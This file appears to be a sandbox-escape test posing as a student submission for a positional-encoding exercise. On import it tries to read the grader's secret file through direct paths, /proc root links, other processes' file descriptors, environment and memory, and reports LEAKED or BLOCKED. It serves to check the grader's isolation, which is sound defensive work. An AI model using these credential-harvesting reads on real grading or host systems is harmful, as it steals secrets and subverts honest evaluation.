"""Read the grader's secret (Settings.secret_file, POSENC_GRADER_SECRET) where the instructor keeps it outside
the repository: below /etc, in a temporary folder, in the grading user's home, in /dev/shm (__SECRETS__ lists
where the test put it, 32 random bytes, the grader's, mode 0600). With it a student computes every main check's
inputs. Tried by its path; through /proc/self/root and another process's /proc/<pid>/root; through the file
descriptors of the grader and its forks (/proc/<pid>/fd: a process that holds it open), their environment
(/proc/<pid>/environ) and memory (/proc/<pid>/mem). Stopped by Landlock (the secret is cut out of every folder a
child may read, and /proc shows only the child's own folder), by the jail (an empty file nobody may read is bound
over it; a PID namespace), by a uid of its own (the file is the grader's, 0600), and in mode none by the grader's
refusal to grade with a secret."""
import os


def _pids():
    """Every process /proc lists; where it lists none, the parent, the grader and the 300 pids before this one
    (the zygote, the trusted grading process and the session server started shortly before it)."""
    mine, found = os.getpid(), {os.getppid(), int("__GRADER__")}
    try:
        found |= {int(n) for n in os.listdir("/proc") if n.isdigit()}
    except OSError:
        found |= set(range(max(1, mine - 300), mine))
    return sorted(p for p in found if p not in (0, mine))


def _read(path, size=64):
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)  # a pipe or terminal: never wait
    try:
        return os.read(fd, size)
    finally:
        os.close(fd)


def _mem(pid):
    with open(f"/proc/{pid}/maps") as f:
        start = next(int(line.split("-")[0], 16) for line in f if line.split()[1].startswith("r"))
    fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    try:
        return os.pread(fd, 16, start)
    finally:
        os.close(fd)


def _attack():
    got, refused = [], set()

    def attempt(what, read):
        try:
            data = read()
        except (OSError, ValueError, StopIteration) as exc:
            refused.add(type(exc).__name__)
            return
        got.append(f"{what}={data.hex()}")

    secrets = [p for p in "__SECRETS__".split(os.pathsep) if p]
    for path in secrets:
        attempt(path, lambda: _read(path))
        attempt(f"/proc/self/root{path}", lambda: _read(f"/proc/self/root{path}"))
    for pid in _pids():
        for path in secrets:
            attempt(f"/proc/{pid}/root{path}", lambda: _read(f"/proc/{pid}/root{path}"))
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError as exc:
            refused.add(type(exc).__name__)
            fds = []
        for fd in fds:
            attempt(f"/proc/{pid}/fd/{fd}", lambda: _read(f"/proc/{pid}/fd/{fd}"))
        attempt(f"/proc/{pid}/environ", lambda: _read(f"/proc/{pid}/environ", 4096))
        attempt(f"/proc/{pid}/mem", lambda: _mem(pid))
    return got, refused


_got, _refused = _attack()


def shift_matrix(k, d_model, base=10000.0):
    if _got:
        raise RuntimeError("LEAKED " + " ".join(_got)[:1500])
    raise RuntimeError("BLOCKED " + " ".join(sorted(_refused)))
